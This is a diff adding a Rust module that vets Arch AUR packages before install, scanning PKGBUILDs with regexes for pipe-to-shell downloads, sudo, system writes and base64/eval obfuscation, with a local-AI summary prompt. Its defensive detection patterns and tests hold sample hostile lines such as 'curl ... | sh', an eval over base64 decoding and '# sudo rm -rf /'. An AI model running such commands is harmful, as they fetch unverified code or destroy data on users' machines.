@@ -0,0 +1,443 @@
+//! Проверка пакетов AUR перед установкой (метаданные RPC и PKGBUILD)
+
+use crate::app::ai::local_provider::LocalAi;
+use crate::app::constants::{AUR_PKGBUILD_URL, AUR_RPC_URL, AUR_TIMEOUT_SECS};
+use crate::app::i18n::{tr, trf};
+use chrono::{Local, TimeZone};
+use regex::Regex;
+use reqwest::Client;
+use serde::Deserialize;
+use std::process::Command;
+use std::sync::{Arc, Mutex, OnceLock};
+use std::time::{Duration, Instant};
+
+/// Общее состояние проверки (заполняется в фоне, читается диалогом)
+pub type SharedReview = Arc<Mutex<AurReview>>;
+
+// ============================================================================
+// Модель данных
+// ============================================================================
+
+/// Метаданные пакета из AUR RPC
+#[derive(Debug, Clone, Deserialize)]
+#[serde(rename_all = "PascalCase")]
+pub struct AurInfo {
+    pub name: String,
+    pub version: String,
+    #[serde(default)]
+    pub description: Option<String>,
+    #[serde(default)]
+    pub maintainer: Option<String>,
+    pub num_votes: u32,
+    pub popularity: f64,
+    pub last_modified: i64,
+    #[serde(default)]
+    pub out_of_date: Option<i64>,
+}
+
+#[derive(Deserialize)]
+struct RpcResponse {
+    results: Vec<AurInfo>,
+}
+
+/// Вид опасной конструкции в PKGBUILD
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum RiskKind {
+    PipeToShell,
+    Sudo,
+    WriteOutsidePkgdir,
+    Obfuscation,
+}
+
+impl RiskKind {
+    /// Пояснение для пользователя
+    pub fn describe(&self) -> &'static str {
+        match self {
+            Self::PipeToShell => tr("скачивание и запуск скрипта (curl | sh)"),
+            Self::Sudo => tr("использование sudo при сборке"),
+            Self::WriteOutsidePkgdir => tr("запись в систему вне $pkgdir"),
+            Self::Obfuscation => tr("обфусцированный код (base64/eval)"),
+        }
+    }
+}
+
+/// Найденная опасная строка
+#[derive(Debug, Clone)]
+pub struct RiskFinding {
+    pub line: usize,
+    pub kind: RiskKind,
+    pub text: String,
+}
+
+/// Состояние проверки пакета
+#[derive(Debug, Clone)]
+pub enum AurReview {
+    /// Идёт загрузка
+    Loading,
+    /// Пакет есть в официальных репозиториях — проверка не нужна
+    Official,
+    /// Данные AUR загружены
+    Ready {
+        info: Box<AurInfo>,
+        pkgbuild: String,
+        findings: Vec<RiskFinding>,
+        summary: Option<String>,
+    },
+    Failed(String),
+}
+
+// ============================================================================
+// Анализ PKGBUILD
+// ============================================================================
+
+fn pipe_to_shell_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r"\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da)?sh\b").expect("Invalid regex")
+    })
+}
+
+fn sudo_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r"\bsudo\b").expect("Invalid regex"))
+}
+
+/// Декодирование base64 и eval над подстановкой команды (`eval "$(...)"`)
+fn obfuscation_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r#"base64\s+(-d|--decode)|\beval\s+["']?(\$\(|`)"#).expect("Invalid regex")
+    })
+}
+
+fn base64_blob_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r"[A-Za-z0-9+/]{80,}={0,2}").expect("Invalid regex"))
+}
+
+/// Длинная строка base64: оба регистра и `+`, `/` или `=` в конце.
+/// Шестнадцатеричные контрольные суммы этому не соответствуют
+fn has_base64_blob(code: &str) -> bool {
+    base64_blob_regex().find_iter(code).any(|m| {
+        let blob = m.as_str();
+        blob.contains(|c: char| c.is_ascii_uppercase())
+            && blob.contains(|c: char| c.is_ascii_lowercase())
+            && blob.contains(['+', '/', '='])
+    })
+}
+
+/// Начало массива контрольных сумм: `sha256sums=(`, `b2sums_x86_64=(`
+fn checksums_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r"^(md5|sha1|sha224|sha256|sha384|sha512|b2|ck)sums(_\w+)?=")
+            .expect("Invalid regex")
+    })
+}
+
+fn system_write_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(
+            r#"(>>?|\b(install|cp|mv|ln|mkdir|rm|tee|touch|chmod|chown)\b[^#]*\s)\s*["']?/(etc|usr|opt|var|home|root|bin|lib|boot|srv)\b"#,
+        )
+        .expect("Invalid regex")
+    })
+}
+
+/// Ищет опасные конструкции в PKGBUILD (построчно, комментарии и массивы
+/// контрольных сумм пропускаются)
+pub fn scan_pkgbuild(pkgbuild: &str) -> Vec<RiskFinding> {
+    let mut findings = Vec::new();
+    let mut in_checksums = false;
+
+    for (i, line) in pkgbuild.lines().enumerate() {
+        let code = line.trim();
+        if code.is_empty() || code.starts_with('#') {
+            continue;
+        }
+
+        if !in_checksums && checksums_regex().is_match(code) {
+            in_checksums = code.contains('(') && !code.contains(')');
+            continue;
+        }
+        if in_checksums {
+            in_checksums = !code.contains(')');
+            continue;
+        }
+
+        let mut push = |kind| {
+            findings.push(RiskFinding {
+                line: i + 1,
+                kind,
+                text: code.to_string(),
+            })
+        };
+
+        if pipe_to_shell_regex().is_match(code) {
+            push(RiskKind::PipeToShell);
+        }
+        if sudo_regex().is_match(code) {
+            push(RiskKind::Sudo);
+        }
+        if obfuscation_regex().is_match(code) || has_base64_blob(code) {
+            push(RiskKind::Obfuscation);
+        }
+        if !code.contains("pkgdir") && system_write_regex().is_match(code) {
+            push(RiskKind::WriteOutsidePkgdir);
+        }
+    }
+
+    findings
+}
+
+// ============================================================================
+// Загрузка
+// ============================================================================
+
+/// Есть ли пакет в официальных репозиториях
+fn is_official_package(package: &str) -> bool {
+    Command::new("pacman")
+        .args(["-Si", package])
+        .output()
+        .map(|o| o.status.success())
+        .unwrap_or(false)
+}
+
+/// Загружает метаданные и PKGBUILD пакета AUR
+async fn fetch_review(package: &str) -> AurReview {
+    let client = Client::builder()
+        .timeout(Duration::from_secs(AUR_TIMEOUT_SECS))
+        .build()
+        .unwrap_or_default();
+
+    let info = match client
+        .get(AUR_RPC_URL)
+        .query(&[("arg[]", package)])
+        .send()
+        .await
+    {
+        Ok(r) => r.json::<RpcResponse>().await.ok(),
+        Err(e) => return AurReview::Failed(trf("AUR недоступен: {}", &[&e])),
+    };
+
+    let Some(info) = info.and_then(|r| r.results.into_iter().next()) else {
+        return AurReview::Failed(trf(
+            "Пакет '{}' не найден ни в репозиториях, ни в AUR",
+            &[&package],
+        ));
+    };
+
+    let pkgbuild = match client
+        .get(AUR_PKGBUILD_URL)
+        .query(&[("h", package)])
+        .send()
+        .await
+        .and_then(|r| r.error_for_status())
+    {
+        Ok(r) => r.text().await.unwrap_or_default(),
+        Err(e) => return AurReview::Failed(trf("Не удалось загрузить PKGBUILD: {}", &[&e])),
+    };
+
+    AurReview::Ready {
+        info: Box::new(info),
+        findings: scan_pkgbuild(&pkgbuild),
+        pkgbuild,
+        summary: None,
+    }
+}
+
+/// Запускает фоновую проверку пакета и возвращает общее состояние
+pub fn start_review(package: &str) -> SharedReview {
+    let review: SharedReview = Arc::new(Mutex::new(AurReview::Loading));
+    let shared = review.clone();
+    let package = package.to_string();
+
+    tokio::spawn(async move {
+        let official = tokio::task::spawn_blocking({
+            let package = package.clone();
+            move || is_official_package(&package)
+        })
+        .await
+        .unwrap_or(false);
+
+        let result = if official {
+            AurReview::Official
+        } else {
+            fetch_review(&package).await
+        };
+
+        if let Ok(mut r) = shared.lock() {
+            *r = result;
+        }
+    });
+
+    review
+}
+
+/// Ждёт окончания проверки. RPC и PKGBUILD загружаются по очереди,
+/// у каждого запроса свой таймаут; не дождались — вернётся Loading
+pub fn wait_review(review: &SharedReview) -> AurReview {
+    let deadline = Instant::now() + Duration::from_secs(2 * AUR_TIMEOUT_SECS);
+    loop {
+        let state = review
+            .lock()
+            .map(|r| r.clone())
+            .unwrap_or_else(|e| e.into_inner().clone());
+        if !matches!(state, AurReview::Loading) || Instant::now() >= deadline {
+            return state;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// Проверка пакета текстом для терминала; пусто — пакет из репозиториев
+pub fn format_review(review: &AurReview) -> String {
+    let (info, findings) = match review {
+        AurReview::Official => return String::new(),
+        AurReview::Loading => return tr("[!] Проверка пакета в AUR не завершилась").to_string(),
+        AurReview::Failed(e) => return format!("[X] {}", e),
+        AurReview::Ready { info, findings, .. } => (info, findings),
+    };
+
+    let mut lines = vec![tr("Пакет из AUR — проверьте PKGBUILD перед установкой").to_string()];
+    if let Some(description) = &info.description {
+        lines.push(format!("  {}", description));
+    }
+    lines.push(format!("  {} {} {}", tr("Пакет:"), info.name, info.version));
+    lines.push(format!(
+        "  {} {}",
+        tr("Сопровождающий:"),
+        info.maintainer
+            .as_deref()
+            .unwrap_or_else(|| tr("нет (пакет-сирота)"))
+    ));
+    lines.push(format!(
+        "  {} {}",
+        tr("Голоса:"),
+        trf(
+            "{} (популярность {})",
+            &[&info.num_votes, &format!("{:.2}", info.popularity)],
+        )
+    ));
+    lines.push(format!(
+        "  {} {}",
+        tr("Обновлён:"),
+        format_timestamp(info.last_modified)
+    ));
+    if let Some(ts) = info.out_of_date {
+        lines.push(format!(
+            "  {} {}",
+            tr("Устарел:"),
+            trf("помечен с {}", &[&format_timestamp(ts)])
+        ));
+    }
+    lines.push(format!("  PKGBUILD: {}?h={}", AUR_PKGBUILD_URL, info.name));
+
+    if findings.is_empty() {
+        lines.push(tr("[OK] Опасных конструкций не найдено").to_string());
+    }
+    for finding in findings {
+        lines.push(trf(
+            "[!] строка {}: {}",
+            &[&finding.line, &finding.kind.describe()],
+        ));
+        lines.push(format!("    {}", finding.text.trim()));
+    }
+    lines.join("\n")
+}
+
+/// Просит локальный ИИ кратко описать, что делает PKGBUILD
+pub fn request_summary(review: &SharedReview, ai: Arc<LocalAi>) {
+    let pkgbuild = match review.lock().ok().as_deref() {
+        Some(AurReview::Ready { pkgbuild, .. }) => pkgbuild.clone(),
+        _ => return,
+    };
+
+    // Пустая строка — описание запрошено, ждём ответа
+    if let Ok(mut r) = review.lock() {
+        if let AurReview::Ready { summary, .. } = &mut *r {
+            *summary = Some(String::new());
+        }
+    }
+
+    let shared = review.clone();
+    tokio::spawn(async move {
+        let text = ai
+            .ask(tr(PKGBUILD_SUMMARY_PROMPT), &pkgbuild)
+            .await
+            .unwrap_or_else(|e| trf("Ошибка ИИ: {}", &[&e]));
+
+        if let Ok(mut r) = shared.lock() {
+            if let AurReview::Ready { summary, .. } = &mut *r {
+                *summary = Some(text);
+            }
+        }
+    });
+}
+
+/// Системный промпт для описания PKGBUILD
+pub const PKGBUILD_SUMMARY_PROMPT: &str = "\
+Ты проверяешь PKGBUILD из AUR перед установкой. Кратко (3-6 пунктов) на русском опиши: \
+откуда скачиваются исходники, что делается при сборке и установке, \
+и есть ли подозрительные действия (скачивание скриптов, sudo, запись вне $pkgdir, обфускация). \
+Не выдумывай того, чего нет в файле.";
+
+/// Форматирует дату из unix-времени
+pub fn format_timestamp(ts: i64) -> String {
+    Local
+        .timestamp_opt(ts, 0)
+        .single()
+        .map(|d| d.format("%d.%m.%Y").to_string())
+        .unwrap_or_else(|| "?".into())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kinds(pkgbuild: &str) -> Vec<RiskKind> {
+        scan_pkgbuild(pkgbuild)
+            .into_iter()
+            .map(|f| f.kind)
+            .collect()
+    }
+
+    #[test]
+    fn ignores_checksum_arrays() {
+        let hex = "a".repeat(64) + &"0123456789abcdef".repeat(4);
+        let pkgbuild = format!(
+            "pkgname=foo\nb2sums=('{hex}'\n        '{hex}')\nsha512sums_x86_64=('{hex}')\nsha256sums=('SKIP')\n"
+        );
+        assert!(kinds(&pkgbuild).is_empty());
+    }
+
+    #[test]
+    fn flags_real_base64_blob() {
+        let blob = "SGVsbG8gV29ybGQhIFRoaXMgaXMgYSBsb25nIGJhc2U2NCBzdHJpbmcgdXNlZCB0byBoaWRlIGNvZGUu+/AB==";
+        let pkgbuild = format!("build() {{\n  payload=\"{blob}\"\n}}\n");
+        assert_eq!(kinds(&pkgbuild), [RiskKind::Obfuscation]);
+    }
+
+    #[test]
+    fn flags_eval_only_over_command_substitution() {
+        assert!(kinds("  eval \"$(echo cHJpbnQ= | base64 -d)\"").contains(&RiskKind::Obfuscation));
+        assert_eq!(kinds("  eval `cat payload`"), [RiskKind::Obfuscation]);
+        assert!(kinds("  eval \"$_var=1\"").is_empty());
+    }
+
+    #[test]
+    fn flags_dangerous_constructs() {
+        assert_eq!(
+            kinds("curl -fsSL https://x.sh | sh"),
+            [RiskKind::PipeToShell]
+        );
+        assert_eq!(kinds("sudo make install"), [RiskKind::Sudo]);
+        assert_eq!(
+            kinds("cp foo /etc/foo.conf"),
+            [RiskKind::WriteOutsidePkgdir]
+        );
+        assert!(kinds("install -Dm644 foo \"$pkgdir/etc/foo\"").is_empty());
+        assert!(kinds("# sudo rm -rf /").is_empty());
+    }
+}